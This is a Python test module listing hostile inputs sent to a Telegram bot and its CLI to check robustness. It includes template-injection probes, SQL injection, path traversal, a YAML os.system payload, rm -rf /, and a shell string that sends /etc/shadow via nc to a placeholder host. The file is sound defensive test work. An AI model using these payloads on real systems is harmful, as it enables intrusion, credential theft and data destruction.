"""What anyone may send a public bot: the hostile-input catalogue shared by the CLI and the Telegram tests.

Each input is sent as typed; `command` inputs arrive as Telegram commands (a bot_command entity at the
start), the rest as plain text. `single_line` tells whether `pressbot ask --json` can read it as one line
of standard input (text mode splits at \\n and \\r); the others go in as an argument.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """One hostile message."""

    name: str
    text: str
    command: bool = False

    @property
    def single_line(self) -> bool:
        return "\n" not in self.text and "\r" not in self.text


# What a template engine or a format string would print if it evaluated the input: never in a reply.
EVALUATED_MARKERS = ("7006652", "LOOPLOOP", "TemplateReference", "Undefined", "<class ", "<function ", "jinja2",
                     "Traceback", "Error:", "Exception")

CATALOGUE: tuple[Hostile, ...] = (
    # empty, blank, huge
    Hostile("empty", ""),
    Hostile("spaces", "     "),
    Hostile("tabs and newlines", "\t\n \n\t"),
    Hostile("20,000 characters", "visa " * 4000),
    Hostile("20,000 characters without a space", "ы" * 20_000),
    Hostile("one very long word", "migration" * 500),
    Hostile("hyphen chain", "-".join(["e-visa"] * 1500) + "-"),
    Hostile("comma-grouped digit flood", ",".join(["123"] * 4000) + "4"),
    # emoji, scripts, invisible and control characters
    Hostile("emoji only", "😀🙈💥🔥" * 10),
    Hostile("flags", "🇦🇿🇷🇺🇺🇸🇹🇷 passport?"),
    Hostile("emoji zwj family", "👨‍👩‍👧‍👦 residence permit for my family"),
    Hostile("zero-width characters", "pass\u200bport\u200c \u200dvisa\ufeff\u2060"),
    Hostile("bidi override", "\u202eevil\u202c visa \u2066isolate\u2069 \u200fRLM"),
    Hostile("NUL bytes", "visa\x00\x00passport\x00"),
    Hostile("ANSI escapes", "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J\x1b[H visa"),
    Hostile("C1 control characters", "visa\x85\x9b31m\x9c"),
    Hostile("backspaces and bell", "visa\x08\x08\x08\x07\x7f"),
    Hostile("combining-mark flood", "Z" + "\u0336\u0335\u0334\u0321\u0322\u0327\u0328" * 300 + "algo"),
    Hostile("full-width letters", "ＷＨＯ ＭＥＴ ＴＨＥ ＩＯＭ ＤＩＲＥＣＴＯＲ ＧＥＮＥＲＡＬ？"),
    Hostile("mathematical letters", "𝐖𝐡𝐨 𝐦𝐞𝐭 𝐭𝐡𝐞 𝐈𝐎𝐌 𝐃𝐢𝐫𝐞𝐜𝐭𝐨𝐫?"),
    Hostile("mixed scripts homoglyphs", "Whо mеt thе IОM Dirеctоr?"),  # Cyrillic о, е, О
    Hostile("line and paragraph separators", "visa\u2028passport\u2029permit\u0085"),
    Hostile("CRLF injection", "visa\r\nSet-Cookie: admin=1\r\n\r\n<b>x</b>"),
    Hostile("private-use and noncharacters", "\ue000\uf8ff\ufffe\uffff\U0010fffd visa"),
    # markup
    Hostile("HTML tags", "<b>bold</b> <script>alert(1)</script> <a href='javascript:alert(1)'>x</a>"),
    Hostile("unclosed HTML", "<b><i>visa <pre><code"),
    Hostile("HTML entities", "&lt;b&gt; &amp;amp; &#0; &#x110000; &nbsp; &bogus;"),
    Hostile("lone angle brackets and ampersand", "a < b > c & d <<>> &&"),
    Hostile("Telegram tags", '<tg-spoiler>x</tg-spoiler><tg-emoji emoji-id="1">👍</tg-emoji><blockquote expandable>'),
    Hostile("Markdown", "**bold** _italic_ `code` [link](http://evil.example) ~~strike~~ ||spoiler||"),
    Hostile("Markdown code fence", "```python\nimport os; os.system('rm -rf /')\n```"),
    Hostile("quotes", "\"'`«»„“”‘’ visa"),
    # template and format-string syntax
    Hostile("Jinja arithmetic", "{{ 1234*5678 }}"),
    Hostile("Jinja 7*7", "{{7*7}}"),
    Hostile("Jinja object walk", "{{ self.__init__.__globals__ }} {{ config }} {{ ''.__class__.__mro__ }}"),
    Hostile("Jinja statements", "{% for x in range(3) %}LOOP{% endfor %}{% raw %}"),
    Hostile("Jinja comment", "{# hidden #} visa"),
    Hostile("other template syntax", "${1234*5678} #{1234*5678} <%= 1234*5678 %> [[${1234*5678}]] @(1234*5678)"),
    Hostile("str.format fields", "{0} {name} {0.__class__} {t} {query!r:>99999}"),
    Hostile("printf formats", "%s%s%s%n%x %(name)s %d"),
    # injection strings
    Hostile("SQL injection", "'; DROP TABLE users; -- \" OR 1=1 --"),
    Hostile("path traversal", "../../../../etc/passwd ..\\..\\windows\\win.ini %2e%2e%2f"),
    Hostile("shell injection", "$(reboot) `id` ; cat /etc/shadow | nc evil 1"),
    Hostile("YAML document", "---\ntitle: x\n!!python/object/apply:os.system ['id']\n---"),
    Hostile("JSON", '{"ok": false, "result": null, "__proto__": {"admin": true}}'),
    Hostile("URL with token-like text", "https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/getMe"),
    # commands
    Hostile("unknown command", "/sudo make me admin", command=True),
    Hostile("command with bot-name suffix", "/start@TestNameBot", command=True),
    Hostile("command for another bot", "/help@SomeOtherBot", command=True),
    Hostile("reload by a stranger", "/reload", command=True),
    Hostile("reload with arguments", "/reload@TestNameBot --force ../../etc", command=True),
    Hostile("latest with a template topic", "/latest {{ 1234*5678 }} <b>", command=True),
    Hostile("latest with a huge topic", "/latest " + "consular " * 700, command=True),
    Hostile("command path", "/etc/passwd", command=True),
    Hostile("command in Cyrillic", "/старт", command=False),
    Hostile("slash only", "/", command=False),
)
